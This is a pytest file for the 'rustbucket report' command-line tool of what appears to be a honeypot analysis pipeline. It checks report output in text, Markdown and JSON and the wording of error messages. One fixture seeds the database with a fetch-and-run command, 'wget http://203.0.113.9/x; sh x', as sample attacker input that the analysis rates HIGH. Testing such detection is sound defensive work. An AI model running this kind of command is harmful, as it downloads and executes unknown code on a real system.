"""`rustbucket report`: the stored report or one made at once, as text, Markdown or JSON; mistakes are one line."""

import json

import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.report import build_analysis
from rustbucket_pipeline.cli.report import app
from rustbucket_pipeline.errors import BadWindow, UsageError
from rustbucket_pipeline.settings import Settings
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, tell


@pytest.fixture(autouse=True)
def environment(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    """The command finds the test's database the way an operator's would be found."""
    assert settings.database_url is not None
    monkeypatch.setenv("RUSTBUCKET_HOME", str(settings.home))
    monkeypatch.setenv("RUSTBUCKET_DATABASE_URL", settings.database_url.get_secret_value())


@pytest.fixture
def reported(database: Engine, settings: Settings) -> str:
    """The key of a window with a stored report."""
    tell(database, [command("wget http://203.0.113.9/x; sh x")])
    build_digest(database, WINDOW, NOW, None)
    build_analysis(database, settings, WINDOW, NOW, None)
    return WINDOW.key


def printed(*arguments: str) -> str:
    result = CliRunner().invoke(app, list(arguments), catch_exceptions=False)
    assert result.exit_code == 0
    return result.stdout


def test_the_latest_report_is_printed_headline_first(reported: str) -> None:
    assert printed().startswith("HIGH: A file is fetched from the internet")
    assert printed() == printed("latest") == printed(reported)


def test_json_is_the_report_as_stored(reported: str) -> None:
    document = json.loads(printed(reported, "--format", "json"))
    assert (document["window"], document["severity"]) == (reported, "high")
    assert document["findings"][0]["id"] == "F1"


def test_markdown_has_a_title(reported: str) -> None:
    assert printed("--format", "md").startswith("# HIGH: ")


def test_now_makes_a_report_of_the_newest_rows(database: Engine) -> None:
    tell(database, [command("uname -a")])
    assert printed("--now").startswith("LOW: The system is looked over (F1).")
    assert "2026-03-02 04:00–08:00 UTC" in printed("--now", WINDOW.key)


@pytest.mark.parametrize(
    ("arguments", "error", "told"),
    [
        ((), UsageError, "no window has been reported yet; `rustbucket report --now`"),
        (("2026-03-02-04:00",), UsageError, "hasn't been reported"),
        (("2026-03-02-05:00",), BadWindow, "isn't on a border"),
        (("yesterday",), BadWindow, "is no window"),
        (("yesterday", "--now"), BadWindow, "is no window"),
    ],
)
def test_mistakes_say_what_to_do(arguments: tuple[str, ...], error: type[Exception], told: str) -> None:
    with pytest.raises(error, match=told):
        CliRunner().invoke(app, list(arguments), catch_exceptions=False)
